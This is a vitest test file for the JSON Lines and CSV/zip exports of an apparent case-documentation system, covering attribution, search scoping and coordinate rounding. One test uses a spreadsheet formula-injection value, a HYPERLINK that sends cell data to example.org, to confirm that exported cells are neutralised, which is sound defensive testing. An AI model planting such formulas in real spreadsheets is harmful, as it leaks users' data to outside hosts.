import { beforeAll, expect, it } from 'vitest';
import { run, type App } from '../../platform/operation.ts';
import { onEitherDatabase } from '../../platform/testing/databases.ts';
import { editor, testApp } from '../../platform/testing/test-app.ts';
import { searchProjection } from '../../search/index/projection.ts';
import { file } from '../../record/filing/file.ts';
import { loadExample, type ExampleRefs } from '../example/load.ts';
import { headLine, endLine, recordLine } from '../formats/jsonl-lines.ts';
import { zipTables } from '../formats/csv-zip.ts';
import { exported, exportedBytes } from './testing/exported.ts';
import { readCsv } from './testing/read-csv.ts';
import { unzip } from './testing/unzip.ts';

const numberOf = (ref: string): string => ref.split('/')[1]!;

onEitherDatabase('an export', (db) => {
  let app: App;
  let refs: ExampleRefs;
  beforeAll(async () => {
    app = testApp(db(), { listeners: [searchProjection()] });
    refs = (await loadExample(app))!;
  });

  it('has the whole record as valid lines between a first and a last line', async () => {
    const lines = (await exported(app, 'record.jsonl'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; ref: string });
    expect(headLine.safeParse(lines[0]).error).toBeUndefined();
    expect(endLine.parse(lines.at(-1))).toEqual({ type: 'end', lines: lines.length - 1 });
    const body = lines.slice(1, -1).map((line) => recordLine.parse(line));
    expect(body.filter((line) => line.type === 'case').length).toBe(4);
  });

  it('has the record as tables, each with a data dictionary', async () => {
    const files = await unzip(await exportedBytes(app, 'record.zip'));
    const tables = new Map(
      [...files].filter(([name]) => name.endsWith('.csv')).map(([name, text]) => [name, readCsv(text)]),
    );
    const told = tables.get('dictionary.csv')!;
    for (const { file, columns } of zipTables('public')) {
      const header = files
        .get(file)!
        .replace(/^\uFEFF/, '')
        .split('\r\n')[0];
      expect([file, header]).toEqual([
        file,
        told
          .filter((row) => row['file'] === file)
          .map((row) => row['column'])
          .join(','),
      ]);
      expect(columns.every((column) => column.about.length > 3)).toBe(true);
    }
    expect(files.get('README.txt')).toMatch(/Query +everything public[\s\S]*Made +2018-05-22T[\s\S]*CC BY 4\.0/);
    expect(JSON.parse(files.get('metadata.json')!)).toMatchObject({
      'dc:license': { '@id': 'https://creativecommons.org/licenses/by/4.0/' },
      'dc:created': '2018-05-22T09:00:00.000Z',
    });

    expect(tables.get('cases.csv')!.map((row) => row['case'])).toEqual(['1', '2', '3', '4']);
    const suit = tables.get('proceedings.csv')!.find((row) => row['title']!.includes(' v. '))!;
    expect(suit).toMatchObject({ case: '1', filed: '2016-12 | 2017-01', disputed: 'filed' });
    // No column contains an alleged value. A statement contains it with its attribution.
    const probe = tables.get('proceedings.csv')!.find((row) => row['case'] === '2')!;
    expect(probe['stated-reason']).toBe('');
    expect(probe['attributed']!.split(' | ')).toContain('stated-reason');
    const alleged = tables
      .get('statements.csv')!
      .filter((row) => row['subject'] === `proceeding/${probe['proceeding']}` && row['property'] === 'stated-reason');
    expect(new Set(alleged.map((row) => [row['mode'], row['says'] !== ''].join()))).toEqual(new Set(['alleged,true']));
    // The exported attribution of a claim has every link.
    const hrw = numberOf(refs['c04-hrw']!);
    expect(tables.get('claims.csv')!.find((row) => row['claim'] === hrw)).toMatchObject({
      case: '2',
      state: 'checked',
      publisher: 'Human Rights Watch',
    });
    expect(tables.get('chain.csv')!.filter((row) => row['claim'] === hrw).length).toBeGreaterThan(0);
    for (const [file, column] of [
      ['claims.csv', 'claim'],
      ['actors.csv', 'actor'],
      ['sources.csv', 'source'],
      ['events.csv', 'event'],
    ] as const) {
      const numbers = tables.get(file)!.map((row) => row[column]);
      expect([file, new Set(numbers).size]).toEqual([file, numbers.length]);
    }
  });

  it('of a search has everything that belongs to the cases found, and the items they name as context', async () => {
    const lines = (
      await exported(app, 'record.jsonl', { text: 'order to block Ratel', kind: ['case'], type: ['blocking'] })
    )
      .trim()
      .split('\n')
      .slice(1, -1)
      .map((line) => recordLine.parse(JSON.parse(line)));
    const cases = lines.filter((line) => line.type === 'case');
    expect(cases.filter((line) => !line.context).map((line) => line.title)).toEqual(['The order to block Ratel.kz']);
    const named = new Set(lines.map((line) => line.ref));
    for (const line of lines)
      for (const ref of JSON.stringify({ ...line, ref: undefined }).match(
        /"(?:actor|source|capture|case|event|proceeding|charge|order|claim)\/\d+"/g,
      ) ?? [])
        expect([line.ref, ref, named.has(ref.slice(1, -1))]).toEqual([line.ref, ref, true]);
    expect(lines.filter((line) => line.type === 'claim').length).toBeLessThan(20);
  });

  it('has the coordinates of places for readers only as they are on maps, and for the desk as they were typed', async () => {
    const claim = (key: string, value: unknown) => ({
      case: '#k',
      wording: 'It happened there.',
      kind: 'paraphrase',
      mode: key,
      checked: true,
      visibility: 'public',
      chain: [{ pagesOwn: true }],
      support: { kind: 'direct-word', note: 'by telephone' },
      statements: [{ subject: '#k', property: 'place', value }],
    });
    await run(app, file, editor, {
      cases: [{ key: 'k', title: 'At a house', visibility: 'public' }],
      claims: [
        claim('stated', { country: 'KZ', locality: 'Almaty', point: { latitude: 43.238912, longitude: 76.945634 } }),
        claim('alleged', { country: 'KZ', point: { latitude: 43.238913, longitude: 76.945635 } }),
      ],
    } as never);
    const texts = async (audience: 'public' | 'desk') => [
      await exported(app, 'record.jsonl', { text: 'house' }, audience),
      ...(await unzip(await exportedBytes(app, 'record.zip', { text: 'house' }, audience))).values(),
    ];
    const open = (await texts('public')).join('');
    for (const exact of ['43.238', '76.945']) expect([exact, open.includes(exact)]).toEqual([exact, false]);
    expect(open).toContain('{"country":"KZ","locality":"Almaty","point":{"latitude":43.25,"longitude":76.95}}');
    expect((await texts('desk')).join('')).toContain('43.238912');
  });

  it('disables formulas in cells, and keeps the text in JSON Lines', async () => {
    await run(app, file, editor, {
      cases: [
        { title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' },
      ],
    });
    const row = readCsv(await exported(app, 'cases.csv')).at(-1)!;
    expect([row['title'], row['summary']]).toEqual([
      '\'=HYPERLINK("https://example.org?x="&A1)',
      '\'+1, "said" he\nand left',
    ]);
    expect(await exported(app, 'record.jsonl')).toContain(JSON.stringify('=HYPERLINK("https://example.org?x="&A1)'));
  });
});
